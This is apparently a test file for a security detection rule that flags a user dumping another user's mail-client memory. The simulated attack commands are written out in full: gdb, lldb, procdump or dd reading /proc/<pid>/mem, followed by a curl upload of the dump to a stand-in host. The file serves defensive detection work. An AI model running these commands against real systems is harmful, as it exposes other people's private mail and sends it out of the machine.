import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { atMostAt, firesAt, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** What a mail client has in memory is mail, though nothing opens the store. */
function open(client = '/usr/bin/neomutt') {
  const log = new HostLog();
  const { path } = log.deliver({ to: 'buyer' });
  const reader = log.shell('buyer').run(client);
  reader.read(path);
  log.wait(MINUTE);
  return { log, reader };
}

const DUMP = '/var/tmp/sess';

async function dumped(user: string, words: (pid: number) => readonly string[], client?: string) {
  const { log, reader } = open(client);
  const shell = log.shell(user);
  const sudo = shell.run('/usr/bin/sudo x');
  const debug: Process = sudo.run(words(reader.pid), { who: { ...shell.who, uid: 0 } });
  debug.write(DUMP);
  const curl = shell.run(`/usr/bin/curl -s --data-binary @${DUMP} http://files.example.net/p`);
  curl.read(DUMP).connect('203.0.113.80', 80);
  return scanLog(log);
}
const gdb = (pid: number) => ['/usr/bin/gdb', '--batch', '-ex', `attach ${pid}`, '-ex', `gcore ${DUMP}`];

test("another person's open client is dumped, and the dump leaves", async () => {
  const ways: readonly ((pid: number) => readonly string[])[] = [
    gdb,
    pid => ['/usr/bin/gdb', '-p', `${pid}`],
    pid => ['/usr/bin/lldb', `--attach-pid=${pid}`],
    pid => ['/usr/bin/procdump', `${pid}`],
    pid => ['/usr/bin/dd', `if=/proc/${pid}/mem`, `of=${DUMP}`],
  ];
  for (const way of ways) {
    const alert = firesAt(await dumped('clerk', way), 'AN1310', 'medium');
    assert.match(alert.title, /^Mail of buyer read and sent out/, String(way(1)));
    assert.match(alert.steps[0]?.summary ?? '', /reads the memory of a mail client, \/proc\/\d+\/mem$/);
  }
});

test("one's own client, a program that is no mail client, a number of nobody and one that means something else", async () => {
  atMostAt(await dumped('buyer', gdb), 'informational');
  atMostAt(await dumped('clerk', gdb, '/usr/bin/python3'), 'informational');
  atMostAt(await dumped('clerk', () => gdb(4_000_000)), 'informational');
  atMostAt(await dumped('clerk', pid => ['/usr/bin/head', '-c', `${pid}`, '/etc/hosts']), 'informational');
  atMostAt(await dumped('clerk', pid => ['/usr/bin/cat', `/proc/${pid}/status`]), 'informational');
});

test('a client that has ended has nothing in memory', async () => {
  const { log, reader } = open();
  reader.exit();
  const shell = log.shell('clerk');
  const debug = shell.run(gdb(reader.pid), { who: { ...shell.who, uid: 0 } });
  debug.write(DUMP).connect('203.0.113.80', 80);
  atMostAt(await scanLog(log), 'informational');
});
